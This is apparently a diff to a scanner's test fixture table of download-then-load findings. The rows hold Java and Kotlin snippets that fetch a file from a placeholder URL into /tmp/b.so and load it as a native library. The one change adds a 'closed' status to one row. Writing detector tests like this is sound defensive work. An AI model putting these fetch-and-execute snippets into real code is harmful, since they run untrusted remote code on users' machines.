@@ -81,7 +81,7 @@ const OPEN_DOWNLOAD_THEN_LOAD: FindingRow[] = [
   ['src/test/java/T.java', `HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofByteArray());\nFiles.write(Paths.get("/tmp/b.so"), r.body());\nSystem.load("/tmp/b.so");`, 'closed'],
   ['src/test/java/T.java', `client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofFile(Paths.get("/tmp/b.so")));\nSystem.load("/tmp/b.so");`, 'closed'],
   ['src/test/java/T.java', `FileUtils.copyURLToFile(new URL("${BOOT}"), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`, 'closed'],
-  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), new File("/tmp/b.so").toPath());\nSystem.load("/tmp/b.so");`],
+  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), new File("/tmp/b.so").toPath());\nSystem.load("/tmp/b.so");`, 'closed'],
   ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Path.of("/tmp", "b.so"));\nSystem.load("/tmp/b.so");`],
   ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Paths.get("/tmp/b.so"));\nRuntime.getRuntime().load("/tmp/b.so");`, 'closed'],
   ['src/test/kotlin/T.kt', `File("/tmp/b.so").writeBytes(URL("${BOOT}").readBytes())\nSystem.load("/tmp/b.so")`, 'closed'],
